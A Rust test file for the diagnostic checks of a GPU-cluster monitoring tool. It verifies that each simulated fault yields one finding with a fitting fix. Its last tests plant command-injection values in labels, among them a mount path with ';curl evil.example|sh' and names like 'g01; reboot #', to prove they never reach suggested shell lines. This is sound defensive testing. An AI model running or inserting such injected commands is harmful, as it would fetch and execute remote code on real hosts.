//! Each check, with the facts of a cluster in order and of a broken one.

mod exceptions;

use super::certificates::{CertificateEnd, TlsService};
use super::facts::{Facts, Reading, RunningJob};
use super::{AcceptedFindings, CHECKS, Check, Diagnosis, DoctorConfig, Severity, diagnose};
use std::collections::BTreeSet;
use std::fs;
use takt_collector::schedulers::{
    DATABASE_DOWN, JOBS_HIDDEN, PollState, SlurmrestdConfig, SourceStatus, TOKEN_REFUSED,
};
use takt_collector::scrape::{DiscoveryProblem, FailureReason, TargetHealth, TargetStatus};
use takt_identity::{AuthConfig, PrivacySetting, SignInDefect, SignInService};
use takt_model::{Labels, METRIC_NAME, Timestamp, UnixTime};
use takt_store::{FailingChannel, RegisteredSize, Snapshot};

/// Time of all readings, in seconds since 1970.
const NOW: f64 = 1_795_000_000.0;

const DAY: f64 = 86_400.0;

/// Every way to sign in.
const AUTH: &str = r#"
munge = true
privacy = "open"
external_url = "https://takt.lab.example"
proxy = { trusted = ["10.0.0.5"] }
ldap = { url = "ldaps://ldap.uni.example", base = "dc=uni", bind_dn = "cn=takt,dc=uni" }
oidc = { issuer = "https://idp.uni.example/realms/hpc/", client_id = "takt" }
"#;

fn backup(taken_at: f64) -> Snapshot {
    Snapshot {
        path: "/backup/takt".into(),
        version: "1.2.3".to_owned(),
        taken_at: UnixTime(taken_at as i64),
        runs: 7,
        series: 8,
        blocks: 9,
    }
}

fn certificate(node: &str, ends_at: f64) -> CertificateEnd {
    CertificateEnd {
        service: TlsService::target("g01:9855", node).unwrap(),
        ends_at,
    }
}

fn reading(facts: &mut Facts, metric: &str, labels: &[(&str, &str)], value: f64) {
    let mut all: Labels = labels.iter().copied().collect();
    all.set(METRIC_NAME, metric);
    let readings = facts.readings.entry(metric.to_owned()).or_default();
    readings.retain(|known| known.labels != all);
    readings.push(Reading {
        labels: all,
        at: Timestamp((NOW * 1e3) as i64),
        value,
    });
}

/// Two nodes with a GPU each, a job on the first, and nothing wrong.
fn in_order() -> Facts {
    let mut facts = Facts {
        version: "1.2.3".to_owned(),
        config: DoctorConfig {
            has_channel: true,
            has_external_url: true,
            has_heartbeat: true,
            polls_slurm: true,
            slurmrestd: SlurmrestdConfig {
                token_file: Some("/etc/takt/slurm-token".into()),
                ..SlurmrestdConfig::default()
            },
            auth: toml::from_str(AUTH).unwrap(),
            ..DoctorConfig::default()
        },
        slurm_token_until: Some(NOW + 30.0 * DAY),
        certificates: vec![certificate("g01", NOW + 30.0 * DAY)],
        records_read_at: Some(NOW - 60.0),
        newest_record_at: Some(NOW - 3.0 * DAY),
        private_data: Some("none".to_owned()),
        created_at: NOW - 400.0 * DAY,
        backup: Some((backup(NOW - DAY), false)),
        ..Facts::default()
    };
    for node in ["g01", "g02"] {
        let of_node = [("node", node)];
        let gpu = [("node", node), ("uuid", node)];
        let link = [("node", node), ("device", "eth0")];
        facts.slurm_nodes.insert(node.to_owned(), 1);
        let instance = format!("{node}:9855");
        let target = [
            ("instance", instance.as_str()),
            ("job", "node"),
            ("node", node),
        ];
        reading(&mut facts, "up", &target, 1.0);
        let build = [("node", node), ("version", "1.2.3")];
        reading(&mut facts, "takt_exporter_build_info", &build, 1.0);
        reading(
            &mut facts,
            "takt_gpu_up",
            &[gpu[0], gpu[1], ("reason", "")],
            1.0,
        );
        let info = [
            gpu[0],
            gpu[1],
            ("pci_bus_id", "0000:07:00.0"),
            ("index", "0"),
            ("minor", "0"),
        ];
        reading(&mut facts, "takt_gpu_info", &info, 1.0);
        reading(&mut facts, "takt_gpu_persistence_enabled", &gpu, 1.0);
        reading(&mut facts, "takt_gpu_row_remap_failed", &gpu, 0.0);
        reading(&mut facts, "takt_gpu_pcie_degraded", &gpu, 0.0);
        reading(&mut facts, "takt_kernel_log_followed", &of_node, 1.0);
        reading(&mut facts, "takt_jobs_unreadable", &of_node, 0.0);
        reading(&mut facts, "node_time_seconds", &of_node, NOW + 0.1);
        reading(&mut facts, "node_timex_sync_status", &of_node, 1.0);
        let mount = [("node", node), ("mountpoint", "/data"), ("server", "nas")];
        reading(&mut facts, "takt_nfs_mount_hung_seconds", &mount, 0.0);
        let mount = [
            ("node", node),
            ("mountpoint", "/scratch"),
            ("fstype", "ceph"),
        ];
        reading(&mut facts, "node_filesystem_device_error", &mount, 0.0);
        for metric in ["negotiated", "capability", "partner"] {
            let metric = format!("takt_link_{metric}_bits_per_second");
            reading(&mut facts, &metric, &link, 1e10);
        }
        let disk = [("node", node), ("device", "sda")];
        reading(&mut facts, "takt_disk_healthy", &disk, 1.0);
    }

    reading(&mut facts, "takt_slurm_up", &[("daemon", "slurmctld")], 1.0);
    let busy = [("state", "mixed")];
    reading(&mut facts, "takt_slurm_nodes", &busy, 1.0);
    reading(&mut facts, "takt_store_clock_trusted", &[], 1.0);
    reading(&mut facts, "takt_slurm_clock_ahead_seconds", &[], 0.0);
    reading(&mut facts, "takt_slurm_constrains_devices", &[], 1.0);

    facts.now = NOW;
    let server = [("job", "takt-server")];
    reading(
        &mut facts,
        "process_start_time_seconds",
        &server,
        NOW - 600.0,
    );
    reading(&mut facts, "takt_store_disk_free_bytes", &[], 5e11);
    reading(&mut facts, "takt_store_disk_size_bytes", &[], 1e12);

    facts.running = vec![RunningJob {
        number: "7".to_owned(),
        nodes: vec!["g01".to_owned()],
        gpus: Some(1),
    }];
    let job = [
        ("node", "g01"),
        ("jobid", "7"),
        ("uuid", "g01"),
        ("user", "ann"),
    ];
    reading(&mut facts, "takt_gpu_job_info", &job, 1.0);
    let memory = [job[0], job[1], job[2]];
    reading(&mut facts, "takt_gpu_job_memory_used_bytes", &memory, 1e9);
    reading(&mut facts, "takt_job_info", &[job[0], job[1], job[3]], 1.0);
    facts
}

/// Lets job 7 of ann, which was given the GPU g01, use other GPUs. The node has `gpus`: UUID, place
/// on the PCI bus, and number of the device file.
fn stray(facts: &mut Facts, gpus: &[[&str; 3]], used: &[&str]) {
    let metrics = ["takt_gpu_info", "takt_gpu_job_memory_used_bytes"];
    for metric in metrics {
        facts.readings.remove(metric);
    }

    for [uuid, index, minor] in gpus {
        let info = [
            ("node", "g01"),
            ("uuid", uuid),
            ("index", index),
            ("minor", minor),
        ];
        reading(facts, metrics[0], &info, 1.0);
    }
    for uuid in used {
        let memory = [("node", "g01"), ("jobid", "7"), ("uuid", uuid)];
        reading(facts, metrics[1], &memory, 1e9);
        let process = [("node", "g01"), ("uuid", *uuid), ("user", "ann")];
        let outside = f64::from(u8::from(*uuid != "g01"));
        reading(facts, "takt_gpu_process_without_job", &process, outside);
    }
}

fn examine(facts: &Facts) -> Diagnosis {
    diagnose(facts, &CHECKS.iter().collect::<Vec<&Check>>())
}

/// Ids of the findings after a change of the facts.
fn broken(change: impl FnOnce(&mut Facts)) -> Vec<String> {
    let mut facts = in_order();
    change(&mut facts);
    let found = examine(&facts).findings;
    for finding in &found {
        let texts = [&finding.evidence, &finding.cost];
        assert!(texts.iter().all(|text| !text.is_empty()), "{finding:?}");
        assert!(!finding.fix.is_empty(), "{finding:?}");
    }
    found.into_iter().map(|finding| finding.id).collect()
}

#[test]
fn a_cluster_in_order_has_no_finding() {
    let diagnosis = examine(&in_order());
    assert_eq!(diagnosis.findings, []);
    assert_eq!(diagnosis.in_order.len(), CHECKS.len());

    let empty = examine(&Facts::default());
    let ids: Vec<&str> = empty
        // Without facts, nothing else is wrong.
        .findings
        .iter()
        .map(|finding| finding.id.as_str())
        .collect();
    assert_eq!(
        ids,
        ["messages.channels"],
        "a new server has no channel yet"
    );
}

#[test]

fn each_defect_is_found_by_its_check_alone() {
    let g01 = ("node", "g01");
    let gpu = [g01, ("uuid", "g01")];
    type Change = Box<dyn FnOnce(&mut Facts)>;
    let set = |metric: &'static str, labels: Vec<(&'static str, &'static str)>, value: f64| {
        Box::new(move |facts: &mut Facts| reading(facts, metric, &labels, value)) as Change
    };
    let defect = |service| {
        let error = "it does not answer".to_owned();
        let defect = SignInDefect { service, error };
        Box::new(move |facts: &mut Facts| facts.sign_in.push(defect)) as Change
    };
    let sized = |gpus, open_records| {
        let cluster = "lab".to_owned();
        let size = RegisteredSize {
            cluster,
            gpus,
            open_records,
        };
        Box::new(move |facts: &mut Facts| facts.registered_size = Some(size)) as Change
    };
    let target = vec![("instance", "g02:9855"), ("job", "node"), ("node", "g02")];
    let unserved = |facts: &mut Facts| facts.config.unserved = Some("/var/lib/takt".into());

    let cases: Vec<(&str, Change)> = vec![
        ("server.runs", Box::new(unserved)),
        ("exporter.answers", set("up", target, 0.0)),
        (
            "exporter.version",
            set(
                "takt_exporter_build_info",
                vec![g01, ("version", "1.0.0")],
                1.0,
            ),
        ),
        (
            "gpu.answers",
            set("takt_gpu_up", vec![gpu[0], gpu[1], ("reason", "lost")], 0.0),
        ),
        (
            "gpu.count",
            Box::new(|facts| facts.slurm_nodes.extend([("g02".to_owned(), 2)])),
        ),
        (
            "gpu.process",
            set(
                "takt_gpu_process_without_job",
                vec![gpu[0], gpu[1], ("user", "eve")],
                1.0,
            ),
        ),
        (
            "gpu.persistence",
            set("takt_gpu_persistence_enabled", gpu.to_vec(), 0.0),
        ),
        (
            "gpu.remap",
            set("takt_gpu_row_remap_failed", gpu.to_vec(), 1.0),
        ),
        (
            "kernel.log",
            set("takt_kernel_log_followed", vec![g01], 0.0),
        ),
        (
            "jobs.seen",
            Box::new(|facts| drop(facts.readings.remove("takt_job_info"))),
        ),
        (
            "jobs.environment",
            set("takt_jobs_unreadable", vec![g01], 2.0),
        ),
        (
            "jobs.gpu_order",
            Box::new(|facts| stray(facts, &[["g01", "0", "1"], ["g01b", "1", "0"]], &["g01b"])),
        ),
        (
            "jobs.isolation",
            Box::new(|facts| stray(facts, &[["g01", "0", "0"], ["g01b", "1", "1"]], &["g01b"])),
        ),
        (
            "jobs.isolation",
            set("takt_slurm_constrains_devices", vec![], 0.0),
        ),
        (
            "node.name",
            set(
                "takt_gpu_up",
                vec![("node", "g1.lab"), ("uuid", "x"), ("reason", "")],
                1.0,
            ),
        ),
        (
            "node.name",
            set(
                "up",
                vec![("instance", "g001:9855"), ("job", "node"), ("node", "g001")],
                1.0,
            ),
        ),
        (
            "config.subjects",
            Box::new(|facts| {
                let named = ("budgets", "lab-z".to_owned());
                facts.config.referred.accounts.push(named);
                facts.names.accounts.insert("lab-a".to_owned());
            }),
        ),
        (
            "config.prices",
            Box::new(|facts| {
                let referred = &mut facts.config.referred;
                referred.gpu_models.extend(["a100".to_owned()]);
                let used = [("a100".to_owned(), 0.0), ("l40s".to_owned(), 5.0)];
                facts.names.gpu_models.extend(used);
            }),
        ),
        (
            "node.clock",
            set("node_time_seconds", vec![g01], NOW - 60.0),
        ),
        ("node.clock", set("node_timex_sync_status", vec![g01], 0.0)),
        (
            "nfs.hung",
            set(
                "takt_nfs_mount_hung_seconds",
                vec![g01, ("mountpoint", "/data"), ("server", "nas")],
                40.0,
            ),
        ),
        (
            "mount.hung",
            set(
                "node_filesystem_device_error",
                vec![
                    g01,
                    ("mountpoint", "/scratch"),
                    ("fstype", "fuse.sshfs"),
                    ("device_error", "mountpoint timeout"),
                ],
                1.0,
            ),
        ),
        (
            "link.speed",
            set(
                "takt_link_negotiated_bits_per_second",
                vec![g01, ("device", "eth0")],
                1e9,
            ),
        ),
        (
            "pcie.width",
            set("takt_gpu_pcie_degraded", gpu.to_vec(), 1.0),
        ),
        (
            "hardware.health",
            set("takt_disk_healthy", vec![g01, ("device", "sda")], 0.0),
        ),
        (
            "config.valid",
            Box::new(|facts| {
                facts.config.file = Some("takt.toml".into());
                facts.config_mistake = Some("takt.toml, line 3: …".to_owned());
            }),
        ),
        (
            "config.read",
            Box::new(|facts| facts.config.unread.for_restart = vec!["[jobs]".to_owned()]),
        ),
        (
            "config.names",
            Box::new(|facts| {
                let said = "takt.toml, line 2: jobs.slurm_bin: …".to_owned();
                facts.config.unusable.push(said);
            }),
        ),
        (
            "config.doubts",
            Box::new(|facts| {
                facts
                    .config
                    .doubts
                    .push("two targets are one node".to_owned())
            }),
        ),
        (
            "messages.channels",
            Box::new(|facts| facts.config.unsent_scopes.push("gpu")),
        ),
        (
            "config.cluster",
            Box::new(|facts| {
                facts.config.cluster = Some("physics".to_owned());
                facts.recorded_clusters = vec!["lab".to_owned()];
            }),
        ),
        (
            "config.cluster",
            Box::new(|facts| {
                facts.config.cluster = Some("labb".to_owned());
                facts.recorded_clusters = vec!["labb".to_owned()];
                facts.slurm.slurm_cluster = Some("lab".to_owned());
            }),
        ),
        (
            "config.secrets",
            Box::new(|facts| facts.config.open_secrets.push("/etc/takt/token".into())),
        ),
        ("data.disk", set("takt_store_disk_free_bytes", vec![], 1e10)),
        (
            "data.disk",
            Box::new(|facts| facts.unwritten = Some("the disk is full".into())),
        ),
        (
            "lake.written",
            Box::new(|facts| {
                facts.config.lake = Some("/srv/lake".into());
                facts.lake_error = Some("cannot write /srv/lake: No space left".to_owned());
            }),
        ),
        (
            "push.senders",
            set(
                "takt_push_newest_timestamp_seconds",
                vec![("sender", "rack-a")],
                1.0,
            ),
        ),
        (
            "remote_write.lag",
            set(
                "takt_remote_write_lag_seconds",
                vec![("destination", "mimir")],
                1200.0,
            ),
        ),
        (
            "rules.time",
            set(
                "takt_alerts_slowest_rule_seconds",
                vec![
                    ("rule_group", "own.yml;slow"),
                    ("rule", "own.yml:slow/Many"),
                ],
                140.0,
            ),
        ),
        (
            "query.remote",
            Box::new(|facts| {
                facts.config.remote = Some("http://mimir:9009/prometheus".to_owned());
                facts.remote_error = Some("it does not answer".to_owned());
            }),
        ),
        (
            "query.remote",
            Box::new(|facts| facts.config.remote = Some("http://mimir:9009".to_owned())),
        ),
        (
            "targets.complete",
            Box::new(|facts| facts.slurm_nodes.extend([("g03".to_owned(), 0)])),
        ),
        (
            "targets.discovered",
            Box::new(|facts| {
                facts.discovery_problems.push(DiscoveryProblem {
                    job: "gpu".to_owned(),
                    problem: "cannot read /etc/takt/nodes.json".to_owned(),
                });
            }),
        ),
        (
            "slurm.answers",
            set("takt_slurm_up", vec![("daemon", "slurmctld")], 0.0),
        ),
        (
            "slurm.answers",
            Box::new(|facts| {
                facts.slurm.state = PollState::Unconfigured;
                facts.slurm.detail = Some("scontrol finds no configuration".to_owned());
            }),
        ),
        ("slurm.tres", Box::new(|facts| facts.unknown_gpus = 3)),
        ("slurm.size", sized(2, 2)),
        ("slurm.size", sized(4, 1)),
        (
            "jobs.joined",
            Box::new(|facts| drop(facts.readings.remove("takt_gpu_job_info"))),
        ),
        (
            "jobs.recorded",
            Box::new(|facts| facts.unrecorded.push(("8".to_owned(), "g01".to_owned()))),
        ),
        (
            "messages.rules",
            Box::new(|facts| facts.config.evaluates_nothing = "alerts.enabled is false"),
        ),
        (
            "messages.delivered",
            Box::new(|facts| facts.mail_error = Some("logging in: 535".to_owned())),
        ),
        (
            "messages.channels",
            Box::new(|facts| facts.config.has_channel = false),
        ),
        (
            "messages.links",
            Box::new(|facts| facts.config.has_external_url = false),
        ),
        (
            "messages.heartbeat",
            Box::new(|facts| facts.config.has_heartbeat = false),
        ),
        (
            "messages.heartbeat",
            set("takt_alerts_heartbeat_up", vec![], 0.0),
        ),
        (
            "messages.delivered",
            Box::new(|facts| {
                facts.failing_channels.push(FailingChannel {
                    channel: "ops/slack/0".to_owned(),
                    error: "channel_not_found".to_owned(),
                })
            }),
        ),
        (
            "slurm.records",
            Box::new(|facts| facts.records_read_at = Some(NOW - 7200.0)),
        ),
        ("slurm.records", Box::new(|facts| facts.running.clear())),
        (
            "sources.complete",
            set(
                "takt_source_problem",
                vec![("source", "queue"), ("problem", JOBS_HIDDEN)],
                1.0,
            ),
        ),
        ("server.clock", set("takt_store_clock_trusted", vec![], 0.0)),
        (
            "slurm.clock",
            set("takt_slurm_clock_ahead_seconds", vec![], -7200.0),
        ),
        (
            "tls.certificate",
            Box::new(|facts| facts.certificates = vec![certificate("g01", NOW + 13.0 * DAY)]),
        ),
        (
            "slurm.token",
            Box::new(|facts| facts.slurm_token_until = Some(NOW + DAY)),
        ),
        ("auth.ldap", defect(SignInService::Ldap)),
        ("auth.oidc", defect(SignInService::Oidc)),
        ("auth.munge", defect(SignInService::Munge)),
        ("auth.proxy", defect(SignInService::Proxy)),
        (
            "auth.privacy",
            Box::new(|facts| facts.private_data = Some("usage,jobs".to_owned())),
        ),
        (
            "auth.privacy",
            Box::new(|facts| {
                facts.config.auth.privacy = PrivacySetting::Slurm;
                facts.unknown_privacy = Some("slurmctld does not answer".to_owned());
            }),
        ),
        (
            "data.damaged",
            Box::new(|facts| facts.set_aside = vec!["/data/records.duckdb.damaged-1".into()]),
        ),
        (
            "backup.last",
            Box::new(|facts| facts.backup = Some((backup(NOW - 8.0 * DAY), false))),
        ),
        (
            "backup.last",
            Box::new(|facts| facts.backup = Some((backup(NOW - DAY), true))),
        ),
        ("backup.last", Box::new(|facts| facts.backup = None)),
    ];
    // A check without a case would never be seen to find anything.
    let tested: BTreeSet<&str> = cases.iter().map(|(id, _)| *id).collect();
    let all: BTreeSet<&str> = CHECKS.iter().map(|check| check.id).collect();
    assert_eq!(tested, all, "each check has a case");

    for (id, change) in cases {
        assert_eq!(broken(change), [id]);
    }
}

/// The finding about the exporter of g02, whose last scrape failed.
fn silent_exporter(reason: FailureReason, error: &str) -> (String, String) {
    let labels: Labels = [("instance", "g02:9855"), ("job", "node"), ("node", "g02")]
        .into_iter()
        .collect();
    let mut facts = in_order();

    let of_target: Vec<(&str, &str)> = labels.iter().collect();
    reading(&mut facts, "up", &of_target, 0.0);
    facts.failing_targets.push(TargetStatus {
        url: "http://g02:9855/metrics".to_owned(),
        labels: labels.clone(),
        discovered: labels.clone(),
        pool: "node".to_owned(),
        interval_seconds: 15.0,
        timeout_seconds: 10.0,
        last_scrape: None,
        duration_seconds: 0.0,
        samples: 0,
        health: TargetHealth::Down,
        reason: Some(reason),
        error: Some(error.to_owned()),
    });
    // Exactly one finding: the failed scrape must not lead to others.
    let [found] = examine(&facts).findings.try_into().unwrap();
    (found.evidence, found.fix.join("\n"))
}

#[test]
fn a_silent_exporter_has_its_reason_and_the_remedy_for_it() {
    for (reason, remedy) in [
        (
            FailureReason::Refused,
            "systemctl enable --now takt-exporter",
        ),
        (FailureReason::UnknownHost, "getent hosts g02"),
        (FailureReason::Timeout, "nc -vz g02 9855"),
        (FailureReason::Unreachable, "ping -c 3 g02"),
        (FailureReason::Tls, "openssl s_client -connect g02:9855"),
        (FailureReason::Status, "curl -sS -i http://g02:9855/metrics"),
        (FailureReason::Credentials, "chmod 640 FILE"),
        (
            FailureReason::Malformed,
            "curl -sS -i http://g02:9855/metrics",
        ),
    ] {
        let (evidence, fix) = silent_exporter(reason, "its words");
        assert_eq!(evidence, "g02:9855 does not answer: its words");
        assert!(fix.contains(remedy), "{reason:?}: {fix}");
    }
}

/// The finding about the job records, which Slurm did not list.
fn failing_slurm(slurmrestd: SlurmrestdConfig, problem: &str, detail: &str) -> (String, String) {
    let mut facts = in_order();
    facts.config.slurmrestd = slurmrestd;
    let of_source = [("source", "job_records"), ("problem", problem)];
    reading(&mut facts, "takt_source_problem", &of_source, 1.0);
    let source = SourceStatus {
        problem: Some(problem.to_owned()),
        detail: Some(detail.to_owned()),
        ..SourceStatus::default()
    };
    facts.slurm.sources.insert("job_records".to_owned(), source);
    let [found] = examine(&facts).findings.try_into().unwrap();
    (found.evidence, found.fix.join("\n"))
}

#[test]
fn a_failing_slurm_is_named_with_what_it_said_and_how_to_ask_it() {
    let said = "sacct failed: exit code 1: sacct: error: no permission";
    let commands = SlurmrestdConfig::default();
    let (evidence, fix) = failing_slurm(commands, "the request to Slurm failed", said);
    assert_eq!(
        evidence,
        format!("job records: the request to Slurm failed: {said}")
    );
    assert!(fix.contains("sudo -u takt sacct -a"), "{fix}");

    let slurmrestd = SlurmrestdConfig {
        url: "http://head:6820".to_owned(),
        user: "monitor".to_owned(),
        token_file: Some("/etc/takt/slurm-token".into()),
        version: None,
    };
    let (_, fix) = failing_slurm(slurmrestd, TOKEN_REFUSED, "it is over");
    assert!(!fix.contains("sacct") && !fix.contains("squeue"), "{fix}");
    for words in [
        "scontrol token username=monitor",
        "X-SLURM-USER-TOKEN: $(sudo cat /etc/takt/slurm-token)",
        "http://head:6820/openapi/v3 ",
        "[jobs.slurmrestd]",
    ] {
        assert!(fix.contains(words), "{words}: {fix}");
    }

    let socket = SlurmrestdConfig {
        url: "unix:/run/slurmrestd.sock".to_owned(),
        ..SlurmrestdConfig::default()
    };
    let (_, fix) = failing_slurm(socket, "the request to Slurm failed", "it is down");
    assert!(fix.contains("--unix-socket /run/slurmrestd.sock http://localhost/openapi/v3 "));
}

/// 25.11 has no v0.0.40 any more.
#[test]
fn slurmrestd_is_asked_with_a_version_that_it_has() {
    let mut facts = in_order();
    facts.config.slurmrestd.url = "http://head:6820".to_owned();
    reading(
        &mut facts,
        "takt_slurm_info",
        &[("version", "25.11.2")],
        1.0,
    );
    let of_source = [("source", "job_records"), ("problem", TOKEN_REFUSED)];
    reading(&mut facts, "takt_source_problem", &of_source, 1.0);
    let fix = |facts: &Facts| examine(facts).findings[0].fix.join("\n");
    let automatic = fix(&facts);
    assert!(
        automatic.contains("head:6820/slurm/v0.0.44/ping"),
        "{automatic}"
    );

    facts.config.slurmrestd.version = Some("v0.0.43".to_owned());
    let configured = fix(&facts);
    assert!(
        configured.contains("head:6820/slurm/v0.0.43/ping"),
        "{configured}"
    );
}

/// An exporter names its node, and a push sender any label.
#[test]
fn no_name_of_a_node_becomes_a_command() {
    let mut facts = in_order();
    let build = [("node", "g01; reboot #"), ("version", "0.0.1")];
    reading(&mut facts, "takt_exporter_build_info", &build, 1.0);
    facts.slurm_nodes.insert("g03; reboot #".to_owned(), 1);

    let findings = examine(&facts).findings;
    let loops = findings.iter().flat_map(|found| &found.fix);
    let loops: Vec<_> = loops.filter(|line| line.starts_with("for n in")).collect();
    assert_eq!(loops.len(), 2);
    for line in loops {
        assert!(line.starts_with("for n in NAME; do scp"), "{line}");
    }
}

#[test]
fn without_slurmdbd_the_records_are_missing_and_the_sources_say_so() {
    let mut facts = in_order();
    reading(&mut facts, "takt_slurm_up", &[("daemon", "slurmdbd")], 0.0);
    let of_source = [("source", "job_records"), ("problem", DATABASE_DOWN)];
    reading(&mut facts, "takt_source_problem", &of_source, 1.0);
    // Words of an earlier state do not get the error of the new one.
    let source = SourceStatus {
        problem: Some("the request to Slurm failed".to_owned()),
        detail: Some("another error".to_owned()),
        ..SourceStatus::default()
    };
    facts.slurm.sources.insert("job_records".to_owned(), source);
    let found = examine(&facts).findings;
    let ids: Vec<&str> = found.iter().map(|one| one.id.as_str()).collect();
    assert_eq!(ids, ["slurm.answers", "sources.complete"]);
    assert!(
        found[0].cost.starts_with("Accounting records"),
        "{}",
        found[0].cost
    );
    assert_eq!(found[1].evidence, "job records: slurmdbd does not answer");
    assert_eq!(found[1].fix, ["systemctl status slurmdbd"]);
}

#[test]
fn signing_in_is_examined_with_the_configured_addresses() {
    let mut facts = in_order();
    for service in [SignInService::Ldap, SignInService::Oidc] {
        let error = "it does not answer".to_owned();
        facts.sign_in.push(SignInDefect { service, error });
    }
    let fixes: Vec<String> = examine(&facts)
        .findings
        .into_iter()
        .map(|finding| finding.fix[0].clone())
        .collect();
    assert_eq!(
        fixes,
        [
            "ldapsearch -x -H ldaps://ldap.uni.example -D 'cn=takt,dc=uni' -W -b 'dc=uni' -s base",
            "curl -sS https://idp.uni.example/realms/hpc/.well-known/openid-configuration",
        ]
    );
}

#[test]
fn accepted_findings_are_named_only() {
    let mut facts = in_order();
    for node in ["g01", "g02"] {
        reading(
            &mut facts,
            "takt_kernel_log_followed",
            &[("node", node)],
            0.0,
        );
    }

    facts.config.has_heartbeat = false;
    let accepted = |facts: &mut Facts, accept: &[&str]| {
        let accept = accept.iter().map(|entry| (*entry).to_owned()).collect();
        facts.config.accepted = AcceptedFindings { accept };
        let diagnosis = examine(facts);
        let found = diagnosis.findings.iter().map(super::accepted::name);
        (found.collect::<Vec<_>>(), diagnosis.accepted)
    };

    let (found, named) = accepted(&mut facts, &["kernel.log:g02", "messages.heartbeat"]);
    assert_eq!(found, ["kernel.log:g01"]);
    assert_eq!(named, ["kernel.log:g02", "messages.heartbeat"]);
    let (found, named) = accepted(&mut facts, &["kernel.log", "messages.heartbeat"]);
    assert_eq!(found.len(), 0);
    assert_eq!(named.len(), 3);

    let said = |entry: &str| {
        let accept = vec![entry.to_owned()];
        AcceptedFindings { accept }.validate().is_ok()
    };
    assert!(said("link.speed:desk03") && said("link.speed"));
    assert!(!said("link") && !said("link.sped:desk03"));
}

#[test]
fn the_worst_comes_first_and_names_the_node_and_the_card() {
    let mut facts = in_order();
    facts.config.has_heartbeat = false;
    let gpu = [("node", "g02"), ("uuid", "g02"), ("reason", "lost")];
    reading(&mut facts, "takt_gpu_up", &gpu, 0.0);
    let found = examine(&facts).findings;
    assert_eq!(found[0].severity, Severity::Failure);
    assert_eq!(found[0].node, "g02");
    let said = "GPU 0 (0000:07:00.0, g02) does not answer: lost";
    assert_eq!(found[0].evidence, said, "index and address before the UUID");

    assert!(found[0].fix[0].starts_with("scontrol update node=g02 state=drain"));
}

#[test]
fn the_documentation_lists_each_check() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../..")
        .join("docs/doctor.md");
    let page = fs::read_to_string(root).unwrap();
    for Check { id, about, .. } in CHECKS {
        let row = format!("| `{id}` | {about} |");
        assert!(page.contains(&row), "docs/doctor.md has no row {row}");
    }
}

/// A user chose the name of a mount, and an exporter a user's: a person pastes the lines.
#[test]
fn no_name_gets_into_a_shell_or_commands_a_terminal() {
    let mut facts = in_order();
    let mount = [
        ("node", "g01"),
        ("mountpoint", "/home/eve/x;curl evil.example|sh;:\u{1b}[31m"),
        ("fstype", "fuse.sshfs"),
        ("device_error", "mountpoint timeout"),
    ];
    reading(&mut facts, "node_filesystem_device_error", &mount, 1.0);
    let process = [
        ("node", "g01"),
        ("uuid", "GPU-1"),
        ("user", "bob; touch x #"),
    ];
    reading(&mut facts, "takt_gpu_process_without_job", &process, 1.0);

    let checks: Vec<&Check> = CHECKS.iter().collect();
    let found = diagnose(&facts, &checks).findings;
    let of = |id: &str| found.iter().find(|one| one.id == id).unwrap();

    let hung = of("mount.hung");
    assert!(hung.evidence.contains("x;curl") && !hung.evidence.contains('\u{1b}'));
    assert_eq!(
        hung.fix[1],
        "ssh g01 sudo umount -l NAME        # then mount it again"
    );
    for line in hung.fix.iter().chain(&of("gpu.process").fix) {
        assert!(!line.contains("evil") && !line.contains("touch"), "{line}");
    }
}
